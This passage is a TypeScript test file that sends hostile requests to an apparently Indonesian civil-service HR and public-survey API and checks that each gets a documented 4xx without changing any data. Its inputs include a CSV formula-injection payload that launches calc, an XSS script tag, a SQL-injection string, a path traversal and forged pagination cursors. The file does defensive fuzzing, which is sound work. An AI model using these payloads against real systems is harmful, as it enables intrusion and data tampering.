        .tuple(fc.integer({ min: 1, max: rows.length - 1 }), fc.integer({ min: 0, max: rows[0]!.length - 1 }), hostileString)
        .map(([row, col, v]) => rows.map((r, i) => (i === row ? r.map((c, j) => (j === col ? `"${v.replace(/"/g, '""')}"` : c)) : r).join(';')).join('\r\n')),
      fc.integer({ min: 0, max: rows[0]!.length - 1 }).map((col) => rows.map((r) => r.filter((_, j) => j !== col).join(';')).join('\r\n')),
      fc.constantFrom("=cmd|' /C calc'!A0", '"unclosed;quote', 'NIP;Nama\r\n1,97704E+17;X', '\u0000\u0000', 'sep=|\r\nNIP|Nama'),
      hostileString,
    )
    .filter((text) => parseRosterCsv(text).errors.length > 0);
  for (const text of sampleOf(csvArb, 24, 650)) {
    out.push({
      category: 'roster CSV the importer refuses',
      method: 'POST',
      target: '/v1/roster/import',
      headers: { ...auth(tokens.hr), 'content-type': 'text/csv; charset=utf-8' },
      body: text,
    });
  }

  // 11 · citizens: survey answers the rules refuse, markup and control characters, unknown units, bad keys.
  const answersArb = fc.oneof(
    fc.array(fc.integer({ min: 1, max: 4 }), { maxLength: 20 }).filter((a) => a.length !== 9),
    fc
      .array(fc.oneof(fc.integer({ min: -5, max: 9 }), fc.double({ noNaN: true })), { minLength: 9, maxLength: 9 })
      .filter((a) => a.some((x) => !Number.isInteger(x) || x < 1 || x > 4)),
  );
  for (const answers of sampleOf(answersArb, 12, 700))
    out.push({ category: 'SKM answers the rules refuse', method: 'POST', target: `/v1/public/units/${subject.unitId}/skm`, body: JSON.stringify({ answers }) });
  for (const comment of ['<script>alert(1)</script>', 'Bagus <b>sekali</b>', 'nul\u0000byte', 'bell\u0007', 'x'.repeat(5000)]) {
    out.push({
      category: 'SKM comment with markup or control characters',
      method: 'POST',
      target: `/v1/public/units/${subject.unitId}/skm`,
      body: JSON.stringify({ answers: [4, 3, 3, 4, 3, 4, 4, 3, 3], comment }),
    });
  }
  for (const key of ['short', 'has space here', "x' OR 1=1 --", '../../../etc', 'a'.repeat(129)]) {
    out.push({
      category: 'SKM hostile Idempotency-Key',
      method: 'POST',
      target: `/v1/public/units/${subject.unitId}/skm`,
      headers: { 'idempotency-key': key },
      body: JSON.stringify({ answers: [4, 3, 3, 4, 3, 4, 4, 3, 3] }),
      expect: 400,
    });
  }
  for (const unit of ['kel-tidak-ada', 'pemkot-surabaya-x'])
    out.push({
      category: 'SKM unknown unit',
      method: 'POST',
      target: `/v1/public/units/${unit}/skm`,
      body: JSON.stringify({ answers: [4, 3, 3, 4, 3, 4, 4, 3, 3] }),
      expect: 404,
    });
  out.push({
    category: 'SKM unknown field',
    method: 'POST',
    target: `/v1/public/units/${subject.unitId}/skm`,
    body: JSON.stringify({ answers: [4, 3, 3, 4, 3, 4, 4, 3, 3], nik: '3578010101900001' }),
    expect: 400,
  });

  return out;
}

// ─── the run ───────────────────────────────────────────────────────────────────────────────────────

// Every answer is checked against the OpenAPI document: its status must be documented for the route,
// its media type listed, and a JSON body valid against the listed schema.
type Json = Record<string, any>;
const openapi = buildOpenApiDocument() as Json;
const ajv = new Ajv2020({ strict: false });
ajv.addSchema({ $id: 'doc', $defs: JSON.parse(JSON.stringify(openapi.components.schemas).replaceAll('"#/components/schemas/', '"#/$defs/')) });
const validatorOf = (schema: Json) => ajv.compile(JSON.parse(JSON.stringify(schema).replaceAll('"#/components/schemas/', '"doc#/$defs/')));
const validGatewayMessage = validatorOf({ $ref: '#/components/schemas/GatewayMessage' });
const validProblem = validatorOf({ $ref: '#/components/schemas/Problem' });
/** The path template of a target (a static segment wins over a variable, as API Gateway picks), when it is a known path. */
const knownPathOf = (target: string): string | undefined => {
  const p = target.split('?')[0]!;
  const statics = (t: string) => t.split('/').filter((x) => !x.startsWith('{')).length;
  return METHOD_FALLBACK_ROUTES.map((r) => r.path)
    .filter((t) => new RegExp(`^${t.replace(/[.]/g, '\\.').replace(/\{\w+\}/g, '[^/]+')}$`).test(p))
    .sort((a, b) => statics(b) - statics(a))[0];
};
const routeOf = (method: string, target: string): Route | undefined => {
  const p = target.split('?')[0]!;
  return ROUTES.find((r) => r.method === method && new RegExp(`^${r.path.replace(/[.]/g, '\\.').replace(/\{\w+\}/g, '[^/]+')}$`).test(p));
};
/** Why an answer does not match the document, or undefined when it does. */
function undocumented(h: Hostile, res: Answer): string | undefined {
  const route = routeOf(h.method, h.target);
  const type = res.contentType.split(';')[0]!.trim();
  // A known path, a method none of its routes serves: 405 problem+json with the path's methods in Allow.
  const path = !route ? knownPathOf(h.target) : undefined;
  if (path) {
    if (res.status !== 405 || res.allow !== allowedMethods(path).join(', ')) return `a method ${path} does not serve must get 405 with Allow`;
    if (h.method === 'HEAD') return undefined;
    return type === 'application/problem+json' && validProblem(JSON.parse(res.body)) ? undefined : 'a 405 must be problem+json';
  }
  if (!route)
    return res.status === 404 && type === 'application/json' && validGatewayMessage(JSON.parse(res.body))
      ? undefined
      : 'an unrouted request must get API Gateway’s 404';
  // API Gateway answers 413 over its limit on any route, before any handler (documented only where a body is expected).
  if (res.status === 413 && type === 'application/json') return validGatewayMessage(JSON.parse(res.body)) ? undefined : 'not a gateway message';
  const spec = openapi.paths[route.path][route.method.toLowerCase()].responses[String(res.status)];
  if (!spec) return `status ${res.status} is not documented for ${route.method} ${route.path}`;
  if (h.method === 'HEAD') return undefined;
  const media = spec.content?.[type];
  if (!media) return `media type ${type} is not documented for ${res.status}`;
  if (!type.includes('json')) return undefined;
  const validate = validatorOf(media.schema);
  return validate(JSON.parse(res.body)) ? undefined : `body does not match the documented schema: ${ajv.errorsText(validate.errors)}`;
}

describe('hostile requests on the local stack', () => {
  const failures: string[] = [];
  const byCategory = new Map<string, Map<number, number>>();

  it('builds at least 500 hostile requests over every route', () => {
    expect(requests.length).toBeGreaterThanOrEqual(500);
    const touched = new Set(
      requests
        .map((r) => routeOf(r.method, r.target))
        .filter((r) => r !== undefined)
        .map(ROUTE_KEY),
    );
    expect(ROUTES.map(ROUTE_KEY).filter((k) => !touched.has(k))).toEqual([]);
  });

  it('rejects every one with a 4xx — never a 5xx — in the documented error shape', async () => {
    const { mapLimit } = await import('../../shared/application/util');
    await mapLimit(requests, 8, async (h) => {
      // A broken connection is a failure of this request, named, not of the whole run.
      const res = await send(h).catch((e: Error): Answer => ({ status: 0, contentType: '', body: `connection: ${e.message}` }));
      const counts = byCategory.get(h.category) ?? new Map<number, number>();
      counts.set(res.status, (counts.get(res.status) ?? 0) + 1);
      byCategory.set(h.category, counts);
      const where = `${h.category}: ${h.method} ${h.target.slice(0, 120)} → ${res.status} ${res.body.slice(0, 200)}`;
      if (res.status < 400 || res.status >= 500) failures.push(where);
      else if (h.expect && res.status !== h.expect) failures.push(`expected ${h.expect}; ${where}`);
      else {
        const why = undocumented(h, res);
        if (why) failures.push(`${why}; ${where}`);
      }
    });
    console.log(
      `hostile requests: ${requests.length}\n${[...byCategory].map(([c, m]) => `  ${c}: ${[...m].map(([s, n]) => `${s}×${n}`).join(' ')}`).join('\n')}`,
    );
    expect(failures).toEqual([]);
  }, 60_000);

  it('left the table exactly as it was (same items, same content) and sent no email', async () => {
    const after = await snapshot();
    expect(after).toEqual(before);
  });

  it('(control) the snapshot does notice a write: one genuine survey answer changes it', async () => {
    const res = await send({
      category: 'control',
      method: 'POST',
      target: `/v1/public/units/${subject.unitId}/skm`,
      body: JSON.stringify({ answers: [4, 3, 3, 4, 3, 4, 4, 3, 3] }),
    });
    expect(res.status).toBe(201);
    const after = await snapshot();
    expect(after.count).toBeGreaterThan(before.count);
    expect(after.hash).not.toBe(before.hash);
  });
});

/**
 * Issue 17: on the wire (the local HTTP API with the route table's ANY routes, as the CDK HTTP API), a
 * method no route serves on a known path is 405 problem+json with Allow — with or without a token, the
 * path's own routes untouched — and an unknown path is still API Gateway's 404.
 */
describe('unsupported methods on known paths: 405 with Allow', () => {
  it.each([
    ['TRACE', `/v1/cycles/${CYCLE}`, 'GET'],
    ['PATCH', `/v1/cycles/${CYCLE}/evaluations/${subject.nip}/skp`, 'PUT'],
    ['DELETE', '/v1/cycles', 'POST'],
    ['PUT', '/v1/decisions/d0123456789abcdef0123456789abcdef', 'GET, HEAD, POST'],
    ['DELETE', '/openapi.json', 'GET'],
    ['OPTIONS', `/v1/public/units/${subject.unitId}/ikm`, 'GET'],
  ])('%s %s → 405, Allow: %s', async (method, target, allow) => {
    for (const headers of [{ authorization: `Bearer ${tokens.hr}` }, {}] as Record<string, string>[]) {
      const res = await send({ category: '405', method, target, headers });
      expect(res.status, res.body.slice(0, 200)).toBe(405);
      expect(res.allow).toBe(allow);
      expect(res.contentType).toBe('application/problem+json');
      expect(JSON.parse(res.body)).toMatchObject({ status: 405, instance: target.split('?')[0] });
    }
  });
  it('the path’s own method still answers (GET /v1/cycles/{cycleId} with its token), and needs its token', async () => {
    expect((await send({ category: '405', method: 'GET', target: `/v1/cycles/${CYCLE}`, headers: { authorization: `Bearer ${tokens.hr}` } })).status).toBe(200);
    expect((await send({ category: '405', method: 'GET', target: `/v1/cycles/${CYCLE}` })).status).toBe(401);
  });
  it.each([
    ['DELETE', '/v1/nowhere'],
    ['TRACE', `/v1/cycles/${CYCLE}/evaluations/${subject.nip}/skp/extra`],
    ['GET', '/v1/cycles/x/unknown'],
  ])('%s %s (no such path) → 404 from the gateway', async (method, target) => {
    const res = await send({ category: '404', method, target, headers: { authorization: `Bearer ${tokens.hr}` } });
    expect(res.status).toBe(404);
    expect(JSON.parse(res.body)).toEqual({ message: 'Not Found' });
  });
});

/**
 * Issue 6: "pagination cursors are opaque and tamper-proof"; "bad input never gets a 500". The HR list's
 * cursor is HMAC-signed and bound to its query (cycle, unit, status): an unsigned key of any shape — one
 * that DynamoDB would refuse, one forged inside the unit, one of another unit, or {} — is a 400.
 */
describe('HR list cursors are tamper-proof', () => {
  const forged: [string, () => Record<string, unknown>][] = [
    ['a key of the wrong shape', () => ({ PK: 'x', SK: 'y' })],
    [
      'a well-formed key forged inside the unit',
      () => ({ GSI1PK: `CYCLE#${CYCLE}#UNIT#${subject.unitId}`, GSI1SK: 'STATUS#SKP_DRAFT#0', PK: `EVAL#${CYCLE}#0`, SK: 'EVAL' }),
    ],
    [
      'a well-formed key of another unit',
      () => ({ GSI1PK: `CYCLE#${CYCLE}#UNIT#kel-asemrowo`, GSI1SK: 'STATUS#SKP_DRAFT#0', PK: `EVAL#${CYCLE}#0`, SK: 'EVAL' }),
    ],
    ['an empty object', () => ({})],
  ];
  for (const [name, key] of forged) {
    it(`an unsigned cursor — ${name} — is refused with 400`, async () => {
      const cursor = Buffer.from(JSON.stringify(key())).toString('base64url');
      const res = await send({
        category: 'cursor',
        method: 'GET',
        target: `/v1/cycles/${CYCLE}/evaluations?unitId=${pct(subject.unitId)}&cursor=${cursor}`,
        headers: { authorization: `Bearer ${tokens.hr}` },
      });
      expect(res.status, res.body.slice(0, 200)).toBe(400);
    });
  }
});
